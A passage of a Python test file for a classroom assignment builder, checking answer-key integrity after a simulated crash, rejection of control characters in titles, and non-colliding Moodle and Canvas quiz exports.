    """key read it into Moodle's XML and ended in a traceback (lxml refuses the character)."""
    out = tmp_path / "class"
    shutil.copytree(three_variants, out)
    described = json.loads((out / "class.json").read_text())
    (out / "class.json").write_text(json.dumps({**described, "title": title}))
    before = (out / "moodle.xml").read_bytes()
    assert build.main(["key", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "control character" in err, err
    assert (out / "moodle.xml").read_bytes() == before


KILLED_BEFORE_THE_KEY = """
import os, sys
import build
from orchestration import classroom
from orchestration.roster import shard_range

classroom.write_key_locked = lambda *args, **kwargs: os.kill(os.getpid(), 9)
build.main(["variants", "-n", "2", "--seed", "2", "--jobs", "1", "--out", sys.argv[1]])
"""


def _answers(tmp_path: Path, results: Path) -> Path:
    import tomli_w

    numbers = json.loads(results.read_text())
    answers = tmp_path / "answers.toml"
    tables = {t: numbers[t] for t in ("updated", "gradients")}
    answers.write_text(tomli_w.dumps({**tables, "forward": {"loss": numbers["forward"]["loss"]}}))
    return answers


@pytest.mark.tex
@pytest.mark.slow  # two classes of two variants, a key: ~25 s
def test_a_class_of_two_runs_is_refused_until_finished(tmp_path, capsys):
    """A full rebuild with another seed killed (-9) once its variants are built, before its
    key: class.json, variants and handouts are the new class's, the key and quizzes the old
    one's (nothing said so). grade then says the class is incomplete and how to finish it;
    check refuses a variant of the old class put back beside the new ones, and key leaves
    it out; once keyed, grade grades."""
    out = tmp_path / "class"
    argv = ["variants", "-n", "2", "--seed", "1", "--jobs", "1", "--out", str(out)]
    assert build.main(argv) == 0
    old_variant = tmp_path / "old-variant-002"
    shutil.copytree(out / "variants" / "variant-002", old_variant)
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_BEFORE_THE_KEY, str(out)], cwd=ROOT, capture_output=True
    )
    assert killed.returncode == -9, killed.stderr
    assert json.loads((out / "class.json").read_text())["seed"] == 2
    variant = out / "variants" / "variant-001" / "results.json"
    key_loss = float(_key_rows(out)[0]["loss"])
    assert key_loss != json.loads(variant.read_text())["forward"]["loss"]  # two classes
    columns = ",".join(c for c in _key_rows(out)[0] if c not in ("id", "name"))
    responses = _responses(tmp_path, f"{columns}\nvariant-001" + ",1" * columns.count(","))
    grade = ["grade", "--class", str(out), "--responses", str(responses)]
    capsys.readouterr()
    assert build.main([*grade, "--out", str(tmp_path / "grades.csv")]) == 2
    err = capsys.readouterr().err
    assert "the class is incomplete" in err and f"build.py key --out {out}" in err
    assert err.count("\n") == 1
    assert not (tmp_path / "grades.csv").exists()
    check = ["check", "--key", str(variant), "--answers", str(_answers(tmp_path, variant))]
    assert build.main(check) == 0  # a variant of the class: checked as usual
    shutil.rmtree(out / "variants" / "variant-002")
    shutil.copytree(old_variant, out / "variants" / "variant-002")
    other = out / "variants" / "variant-002" / "results.json"
    capsys.readouterr()
    assert (
        build.main(["check", "--key", str(other), "--answers", str(_answers(tmp_path, other))]) == 2
    )
    err = capsys.readouterr().err
    assert "variant-002: a variant of another class" in err and "incomplete" in err
    assert build.main(["key", str(out)]) == 1  # variant-002 is missing from the new key
    assert [row["variant"] for row in _key_rows(out)] == ["variant-001"]
    assert build.main([*grade, "--out", str(tmp_path / "grades.csv")]) == 0


def _lms_names(folder: Path) -> tuple[str, set[str]]:
    """moodle.xml's category, and every identifier in canvas-qti.zip."""
    quiz = etree.fromstring((folder / "moodle.xml").read_bytes())
    package = zipfile.ZipFile(folder / "canvas-qti.zip")
    idents = set()
    for name in package.namelist():
        for element in etree.fromstring(package.read(name)).iter():
            idents |= {v for k, v in element.attrib.items() if k in ("ident", "identifier")}
    return quiz.findtext("question/category/text"), idents


@pytest.mark.tex
def test_two_classes_of_one_title_never_collide_in_an_lms(three_variants, tmp_path):
    """Another seed, the same title: another Moodle category and no Canvas identifier in
    common (they were the same: Canvas's import overwrote the first quiz's questions)."""
    other = tmp_path / "other"
    argv = ["variants", "-n", "1", "--seed", "2", "--jobs", "1", "--out", str(other)]
    assert build.main(argv) == 0
    first, second = _lms_names(three_variants), _lms_names(other)
    assert first[0] != second[0]
    generic = {"root_section", "general_fb"}  # an item's own, as Canvas names them
    shared = {i for i in first[1] & second[1] if i not in generic}
    assert not {i for i in shared if not i.startswith("response_")}, shared
